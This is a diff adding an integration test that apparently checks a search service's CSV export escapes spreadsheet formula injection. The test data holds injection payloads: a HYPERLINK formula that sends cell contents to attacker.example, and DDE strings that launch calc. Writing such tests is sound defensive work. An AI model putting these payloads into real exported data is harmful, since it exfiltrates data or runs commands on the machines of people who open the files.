@@ -200,4 +200,20 @@ describe('search against the real Meilisearch, fed from PostgreSQL through the o
     expect((await t.http.get('/api/v1/search/export?format=json')).body).toHaveLength(published);
     expect((await t.http.get('/api/v1/search/export?format=xml')).status).toBe(400);
   });
+
+  it('exports titles and summaries that start like a formula with a leading quote, so no spreadsheet runs them', async () => {
+    const formulas = ['=HYPERLINK("http://attacker.example/?"&A1,"Open")', '+1+cmd|calc!A0', '-2+3', '@SUM(1+1)*cmd|calc!A0', '\t=1+1', '\r=1+1'];
+    for (const title of formulas) await insertCaseStudy(t.dataSource, { municipalityId: darmstadt.id, status: 'published', content: distinct({ title }) });
+    await waitUntil('the formula titles to be indexed', outboxDrained);
+
+    const csv = (await t.http.get('/api/v1/search/export?format=csv')).text;
+    for (const title of formulas) {
+      const quoted = (text: string) => `"'${text.replace(/"/g, '""')}"`;
+      // Title and summary, side by side, each behind a quote and inside double quotes.
+      expect(csv).toContain(`,${quoted(title)},${quoted(`${title}.`)},`);
+    }
+    expect(csv).not.toMatch(/(^|,|\r\n)[=+\-@\t]/);
+    const json = (await t.http.get('/api/v1/search/export?format=json')).body as { title: string }[];
+    expect(json.map((record) => record.title)).toEqual(expect.arrayContaining(formulas));
+  });
 });
